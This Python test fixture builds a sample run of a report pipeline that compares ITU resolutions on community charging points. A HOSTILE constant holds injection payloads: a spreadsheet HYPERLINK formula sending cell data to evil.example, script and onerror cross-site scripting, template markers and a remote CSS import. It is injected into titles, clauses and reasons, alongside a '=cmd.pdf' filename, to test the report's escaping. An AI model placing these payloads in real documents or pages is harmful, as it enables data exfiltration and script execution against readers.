"""A small run, built by hand: six texts of four bodies, with every kind of thing that a report shows."""

import math
import tempfile
from dataclasses import replace
from pathlib import Path

from pipeline.domain import (
    Clause,
    Cluster,
    Contribution,
    Document,
    DocumentKind,
    Evidence,
    Finding,
    Lineage,
    Manifest,
    Match,
    MatchKind,
    Notice,
    Overlap,
    Part,
    Rejected,
    Relation,
    Remedy,
    Resolution,
    ResolutionPair,
    RunRecord,
    Section,
    Signal,
    SignalKind,
    Span,
    clause_id,
    parse_instrument_id,
)
from pipeline.report import frame_page, frame_workbook
from pipeline.report.excel import write_content
from pipeline.report.html import render_content
from pipeline.report.model import ReportView

__all__ = ["HOSTILE", "empty_record", "make_record", "page_of", "write_workbook"]

# Text of the kind that attacks a browser, a spreadsheet, a template and an XML parser.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?x="&A1,"click") <script>alert(1)</script> "><img src=x onerror=alert(2)> '
    "{{ 7*7 }} {% raw %} ]]> &amp; \x07 @import url(https://evil.example/a.css)"
)

_PP = "pp/res/901@2018"
_WTDC = "wtdc/res/951@2022"
_WTSA = "wtsa/res/961@2024"
_COUNCIL = "council/res/990@2021"
_WTDC_OTHER = "wtdc/res/952@2022"
_WTSA_HOSTILE = "wtsa/res/966@2024"

_DIRECTORS = "instructs the Directors of the three Bureaux"
_BDT = "instructs the Director of the Telecommunication Development Bureau"
_TSB = (
    "instructs the Director of the Telecommunication Standardization Bureau, in close collaboration with the "
    "Director of the Telecommunication Development Bureau"
)

# identifier: (number line, title, language, [(call, slug, part, [(label, text), …]), …])
_TEXTS: dict[str, tuple[str, str, str, list[tuple[str, str, Part, list[tuple[str, str]]]]]] = {
    _PP: (
        "RESOLUTION 901 (REV. DUBAI, 2018)",
        "Open registers of community charging points",
        "en",
        [
            (
                "considering",
                "considering",
                Part.PREAMBULAR,
                [("a)", "that community charging points help to keep telecommunication services available;")],
            ),
            ("resolves", "resolves", Part.OPERATIVE, [("", "to promote interoperable open registers of such points,")]),
            (
                _DIRECTORS,
                "instructs-dir3",
                Part.OPERATIVE,
                [
                    (
                        "1",
                        (
                            "to maintain, within available resources, a public register of community charging points, "
                            "and to keep it open to all Member States;"
                        ),
                    ),
                    (
                        "2",
                        (
                            "to publish guidelines for the creation of national registers, taking into account the "
                            "needs of developing countries;"
                        ),
                    ),
                    ("3", "to report annually to the Council on the implementation of this resolution,"),
                ],
            ),
            (
                "invites Member States and Sector Members",
                "invites-member-states",
                Part.OPERATIVE,
                [("", "to provide up-to-date information for the register.")],
            ),
        ],
    ),
    _WTDC: (
        "RESOLUTION 951 (Kigali, 2022)",
        "Registers of community charging points in developing countries",
        "en",
        [
            (
                _BDT,
                "instructs-dir-bdt",
                Part.OPERATIVE,
                [
                    ("1", "to maintain, within available resources, a public register of community charging points;"),
                    ("2", "to organize regional workshops on national registers;"),
                    ("3", "to report annually to the Telecommunication Development Advisory Group,"),
                ],
            ),
            (
                "invites Member States",
                "invites-member-states",
                Part.OPERATIVE,
                [("", "to provide up-to-date information for the register.")],
            ),
        ],
    ),
    _WTSA: (
        "RESOLUTION 961 (New Delhi, 2024)",
        "Data formats for registers of community charging points",
        "en",
        [
            (
                _TSB,
                "instructs-dir-tsb",
                Part.OPERATIVE,
                [
                    ("1", "to facilitate the development of Recommendations on data formats for the register;"),
                    ("2", "to maintain a public list of community charging points in all countries,"),
                ],
            )
        ],
    ),
    _COUNCIL: (
        "RÉSOLUTION 990 (C21)",
        "Rapports sur les points de recharge communautaires",
        "fr",
        [
            (
                "charge le Secrétaire général",
                "instructs-sg",
                Part.OPERATIVE,
                [("", "de faire rapport chaque année au Conseil sur la mise en œuvre de la présente résolution.")],
            )
        ],
    ),
    _WTDC_OTHER: (
        "RESOLUTION 952 (Kigali, 2022)",
        "Workshops on national registers",
        "en",
        [
            (
                _BDT,
                "instructs-dir-bdt",
                Part.OPERATIVE,
                [("1", "to organize workshops on national registers in each region every year;")],
            )
        ],
    ),
    _WTSA_HOSTILE: (
        "RESOLUTION 966 (New Delhi, 2024)",
        HOSTILE,
        "en",
        [("resolves", "resolves", Part.OPERATIVE, [("1", HOSTILE), ("2", "+1 to provide the register.")])],
    ),
}


def _resolution(identifier: str) -> Resolution:
    number_line, title, language, groups = _TEXTS[identifier]
    instrument = parse_instrument_id(identifier)
    sections = []
    for call, slug, part, items in groups:
        clauses = tuple(
            Clause(
                id=clause_id(instrument, slug, (label.rstrip(")") or "1",)),
                part=part,
                call=call,
                label=label,
                path=(label.rstrip(")") or "1",),
                text=text,
                span=Span(0, len(text)),
                page=2,
            )
            for label, text in items
        )
        sections.append(Section(call, slug, call.split()[0], part, Span(0, 0), clauses))
    return Resolution(
        id=instrument,
        title=title,
        language=language,
        document_id=f"doc-{identifier}",
        number_line=number_line,
        span=Span(0, 0),
        sections=tuple(sections),
    )


_CLAUSES = {clause.id: clause for key in _TEXTS for clause in _resolution(key).clauses}


def _matches(left: str, right: str, *runs: tuple[str, MatchKind]) -> tuple[Match, ...]:
    texts = _CLAUSES[left].text, _CLAUSES[right].text
    return tuple(
        Match(*(Span(text.index(run), text.index(run) + len(run)) for text in texts), kind) for run, kind in runs
    )


def _overlap(
    key: str, left: str, right: str, relation: Relation, points: tuple[float, ...], *runs: tuple[str, MatchKind]
) -> Overlap:
    features = (
        ("containment", "Most informative words of one clause stand in order in the other."),
        ("meaning", "The two clauses mean nearly the same."),
        ("formula", "Part of what they share is formula language."),
    )
    evidence = Evidence(
        bias=-2.0,
        contributions=tuple(
            Contribution(feature, 0.5, value, sentence)
            for (feature, sentence), value in zip(features, points, strict=True)
        ),
        matches=_matches(left, right, *runs),
        reasons_for=("Both clauses tell an office to do the same thing to the same object.",),
        reasons_against=("The offices that are told to act differ.",),
    )
    return Overlap(
        id=key,
        left=left,
        right=right,
        relation=relation,
        probability=1 / (1 + math.exp(-evidence.log_odds)),
        similarity=0.83,
        containment_left=0.7,
        containment_right=0.9,
        information=0.8,
        evidence=evidence,
    )


_REGISTER = "a public register of community charging points"
_SAME, _FORMULA = MatchKind.SAME, MatchKind.FORMULA


def _overlaps() -> tuple[Overlap, ...]:
    pp, wtdc, wtsa = f"{_PP}#", f"{_WTDC}#", f"{_WTSA}#"
    return (
        _overlap(
            "o1",
            f"{pp}instructs-dir3.1",
            f"{wtdc}instructs-dir-bdt.1",
            Relation.VERB,
            (3.1, 1.4, -0.3),
            ("to maintain, ", _SAME),
            ("within available resources", _FORMULA),
            (_REGISTER, _SAME),
        ),
        _overlap(
            "o2",
            f"{pp}invites-member-states.1",
            f"{wtdc}invites-member-states.1",
            Relation.SAME_REQ,
            (2.9, 1.2, 0.0),
            ("to provide up-to-date information for the register", _SAME),
        ),
        _overlap(
            "o3",
            f"{wtdc}instructs-dir-bdt.1",
            f"{wtsa}instructs-dir-tsb.2",
            Relation.SAME_ACT,
            (1.7, 1.6, 0.0),
            ("to maintain", _SAME),
            ("community charging points", _SAME),
        ),
        _overlap(
            "o4",
            f"{pp}instructs-dir3.2",
            f"{wtdc}instructs-dir-bdt.2",
            Relation.THEME,
            (0.6, 1.1, 0.0),
            ("national registers", _SAME),
        ),
        _overlap("o5", f"{pp}instructs-dir3.3", f"{_COUNCIL}#instructs-sg.1", Relation.REPORT, (0.2, 1.5, 0.0)),
        _overlap(
            "o6",
            f"{wtdc}instructs-dir-bdt.2",
            f"{_WTDC_OTHER}#instructs-dir-bdt.1",
            Relation.SAME_ACT,
            (2.4, 1.3, 0.0),
            ("to organize", _SAME),
            ("workshops on national registers", _SAME),
        ),
        _overlap(
            "o7",
            f"{pp}instructs-dir3.1",
            f"{wtsa}instructs-dir-tsb.1",
            Relation.INTEG,
            (0.4, 1.0, 0.0),
            ("register", _SAME),
        ),
        _overlap("o8", f"{_PP}#resolves.1", f"{_WTSA_HOSTILE}#resolves.1", Relation.THEME, (0.1, 0.5, -0.2)),
    )


def _pair(
    a: str, b: str, relation: Relation, coverage: tuple[float, float], overlaps: tuple[str, ...], **more: object
) -> ResolutionPair:
    pair = ResolutionPair(
        a=a,
        b=b,
        body_a=a.partition("/")[0],
        body_b=b.partition("/")[0],
        relation=relation,
        probability=0.8,
        strength=0.6,
        coverage_a=coverage[0],
        coverage_b=coverage[1],
        cites="",
        overlaps=overlaps,
    )
    found = {clause for o in _overlaps() if o.id in overlaps for clause in (o.left, o.right)}
    held = [
        tuple(c.id for c in _resolution(text).clauses if c.part is Part.OPERATIVE and c.id in found) for text in (a, b)
    ]
    return replace(pair, matched_a=held[0], matched_b=held[1], **more)  # type: ignore[arg-type]


def _pairs() -> tuple[ResolutionPair, ...]:
    return (
        _pair(
            _PP,
            _WTDC,
            Relation.VERB,
            (0.62, 0.71),
            ("o1", "o2", "o4"),
            cites="b",
            reasons=("One clause repeats nearly word for word.",),
        ),
        _pair(_WTDC, _WTSA, Relation.SAME_ACT, (0.3, 0.5), ("o3",)),
        _pair(_PP, _COUNCIL, Relation.REPORT, (0.1, 1.0), ("o5",), cites="both"),
        _pair(_PP, _WTSA_HOSTILE, Relation.THEME, (0.05, 0.2), ("o8",), reasons=(HOSTILE,)),
        _pair(_WTDC, _WTDC_OTHER, Relation.SAME_ACT, (0.25, 1.0), ("o6",)),
        _pair(_PP, _WTSA, Relation.INTEG, (0.2, 0.4), ("o7",), cites="b", reasons=("It adds work of its own Sector.",)),
        _pair(_COUNCIL, _WTDC, Relation.BOIL, (0.0, 0.0), (), reasons=("Only the reporting formula is shared.",)),
        _pair(_WTSA, _WTSA_HOSTILE, Relation.NONE, (0.0, 0.0), ()),
    )


def _finding(
    key: str, rank: int, a: str, b: str, relation: Relation, score: float, overlaps: tuple[str, ...], **more: object
) -> Finding:
    finding = Finding(
        id=key,
        rank=rank,
        a=a,
        b=b,
        relation=relation,
        score=score,
        parts=(("label", score / 2), ("coverage", score / 4), ("similarity", score / 4)),
        factors=(),
        headline=overlaps[0],
        overlaps=overlaps,
        cluster=None,
        cross_body=a.partition("/")[0] != b.partition("/")[0],
        remedies=(),
        reasons=(),
    )
    return replace(finding, **more)  # type: ignore[arg-type]


def _findings() -> tuple[Finding, ...]:
    trim = ((Remedy.TRIM, "Two passages repeat the Plenipotentiary text nearly word for word."),)
    lead = ((Remedy.LEAD, "Two Directors keep a register of the same points."),)
    one = ((Remedy.CONSOLIDATE_REPORT, "Two reports on one subject go to the Council."),)
    return (
        _finding(
            "f-verb",
            1,
            _PP,
            _WTDC,
            Relation.VERB,
            0.842,
            ("o1", "o2", "o4"),
            cluster="c1",
            remedies=trim,
            reasons=("the Sector text adds nothing to the repeated clause",),
        ),
        # Text a is the one whose clause stands on the right of its overlap: writers must turn the pair round.
        _finding("f-act", 2, _WTSA, _WTDC, Relation.SAME_ACT, 0.7, ("o3",), cluster="c1", remedies=lead),
        _finding("f/report", 3, _PP, _COUNCIL, Relation.REPORT, 0.41, ("o5",), remedies=one),
        _finding("f-theme", 4, _PP, _WTSA_HOSTILE, Relation.THEME, 0.2, ("o8",), reasons=(HOSTILE,)),
        _finding(
            "f-within",
            5,
            _WTDC,
            _WTDC_OTHER,
            Relation.SAME_ACT,
            0.66,
            ("o6",),
            cluster="c2",
            remedies=((Remedy.MERGE, "Both texts of one conference ask for workshops."),),
        ),
    )


def _clusters() -> tuple[Cluster, ...]:
    first = (f"{_PP}#instructs-dir3.1", f"{_WTDC}#instructs-dir-bdt.1", f"{_WTSA}#instructs-dir-tsb.2")
    second = (f"{_WTDC}#instructs-dir-bdt.2", f"{_WTDC_OTHER}#instructs-dir-bdt.1")
    return (
        Cluster(
            "c1", "public register · community charging points", first, first[0], ("pp", "wtdc", "wtsa"), ("o1", "o3")
        ),
        Cluster("c2", "workshops · national registers", second, second[0], ("wtdc",), ("o6",)),
    )


def _documents() -> tuple[Document, ...]:
    documents = [
        Document(
            id=f"doc-{key}",
            path=f"texts/{key.replace('/', '-').partition('@')[0]}.docx",
            digest=f"{number:064x}",
            format="docx",
            text="",
            blocks=(),
            kind=DocumentKind.INSTRUMENTS,
        )
        for number, key in enumerate(_TEXTS)
    ]
    documents[0] = replace(
        documents[0],
        copies=("texts/pp-res-901.pdf",),
        notices=(Notice("tables", "Two tables were read row by row."),),
    )
    return tuple(documents)


def make_record() -> RunRecord:
    """The whole run."""
    return RunRecord(
        manifest=Manifest(
            run_id="20250307-104200-1f2e3d",
            created_at="2025-03-07T10:42:00+00:00",
            corpus="corpus/sample",
            inputs={"texts/pp-res-901.docx": "0" * 64},
            settings={"profile": "itu"},
            versions={"overlap": "0.1.0"},
            counts={"passages": 12},
            timings={"ingest": 1.25},
            limits=("Only the first 500 candidates of each clause were scored: 2 clauses had more.",),
            findings_digest="ab" * 32,
        ),
        documents=_documents(),
        resolutions=tuple(_resolution(key) for key in sorted(_TEXTS)),
        lineages=(
            Lineage("pp/res/901", ("pp/res/901@2014", _PP)),
            *(Lineage(key.partition("@")[0], (key,)) for key in sorted(_TEXTS) if key != _PP),
        ),
        overlaps=_overlaps(),
        pairs=_pairs(),
        clusters=_clusters(),
        findings=_findings(),
        signals=(
            Signal(SignalKind.GAP, f"{_PP}#instructs-dir3.2", "No ITU-R text takes up this instruction."),
            Signal(SignalKind.STALE, _COUNCIL, "The date that it sets has passed."),
        ),
        rejected=(
            Rejected("texts/broken.docx", "not-a-document", "The file is no Word document; save it again as DOCX."),
            Rejected("texts/=cmd.pdf", "no-text", "The PDF holds pictures only; run text recognition first."),
        ),
        citations=(),
    )


def empty_record() -> RunRecord:
    """A run that found nothing at all."""
    return RunRecord(
        manifest=Manifest(run_id="empty", created_at="2025-03-07T10:42:00Z", corpus="corpus/empty"),
        documents=(),
        resolutions=(),
        lineages=(),
        overlaps=(),
        pairs=(),
        clusters=(),
        findings=(),
        signals=(),
        rejected=(),
        citations=(),
    )


def page_of(view: ReportView) -> str:
    """The page of a report, put together as a run does it: its content, then the facts of the run."""
    with tempfile.TemporaryDirectory() as folder:
        content, page = Path(folder) / "content.html", Path(folder) / "report.html"
        content.write_bytes(render_content(view).encode())
        frame_page(content, page, view.manifest)
        return page.read_bytes().decode()


def write_workbook(view: ReportView, path: Path) -> None:
    """Write the workbook of a report, put together as a run does it: its content, then the facts of the run."""
    with tempfile.TemporaryDirectory() as folder:
        content = Path(folder) / "content.xlsx"
        frame_workbook(content, write_content(view, content), path, view.manifest)
